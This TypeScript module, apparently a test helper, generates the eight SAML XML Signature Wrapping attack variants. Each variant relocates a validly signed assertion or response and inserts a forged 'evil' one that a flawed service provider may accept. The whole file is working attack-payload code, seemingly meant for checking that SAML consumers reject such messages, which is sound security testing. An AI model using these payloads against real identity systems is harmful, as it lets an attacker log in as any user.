import {
  assertionOf,
  honest,
  newId,
  ofResponse,
  responseOf,
  type Said,
  type Signing,
  signedXml,
} from './saml-provider.ts';

/**
 * Signature wrapping as in "On Breaking SAML: Be Whoever You Want to Be" (2012), by the numbers that SAML Raider made usual: what the
 * provider signed for `said` stays in the document, so that the signature is right, and `evil` is in a place where it may be read.
 */
export function wrapped(
  number: 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8,
  said: Said,
  evil: Said,
  signing: Signing,
): string {
  if (number <= 2) return wrappedResponse(number, said, evil, signing);
  const signed = honest(said, signing);
  const original = partOf(signed, 'saml:Assertion');
  const signature = partOf(signed, 'Signature');
  const unsigned = original.replace(signature, '');
  const evilAssertion = assertionOf({ ...evil, assertionId: newId() });
  const withSignature = (assertion: string, more: string) =>
    assertion.replace('</saml:Issuer>', `</saml:Issuer>${more}`);
  const sameId = assertionOf({ ...evil, assertionId: idOf(original) });
  switch (number) {
    case 3:
      return responseOf(said, evilAssertion, original);
    case 4:
      return responseOf(said, evilAssertion.replace('</saml:Assertion>', `${original}</saml:Assertion>`));
    case 5:
      return responseOf(said, withSignature(evilAssertion, signature), unsigned);
    case 6:
      return responseOf(
        said,
        withSignature(evilAssertion, signature.replace('</Signature>', `${unsigned}</Signature>`)),
      );
    case 7:
      return responseOf(said, original).replace(
        '<samlp:Status>',
        `<samlp:Extensions>${sameId}</samlp:Extensions><samlp:Status>`,
      );
    default:
      return responseOf(
        said,
        withSignature(sameId, signature.replace('</Signature>', `<Object>${unsigned}</Object></Signature>`)),
      );
  }
}

function wrappedResponse(number: number, said: Said, evil: Said, signing: Signing): string {
  const original = signedXml(responseOf(said, assertionOf(said)), ofResponse, signing);
  const signature = partOf(original, 'Signature');
  const unsigned = original.replace(signature, '');
  const evilResponse = responseOf({ ...evil, responseId: newId() }, assertionOf(evil));
  const put = (more: string) => evilResponse.replace('</saml:Issuer>', `</saml:Issuer>${more}`);
  return number === 1
    ? put(signature.replace('</Signature>', `<Object>${unsigned}</Object></Signature>`))
    : put(unsigned + signature);
}

export function partOf(text: string, name: string): string {
  const end = `</${name}>`;
  return text.slice(text.indexOf(`<${name}`), text.lastIndexOf(end) + end.length);
}

const idOf = (text: string): string => / ID="([^"]+)"/.exec(text)?.[1] ?? '';
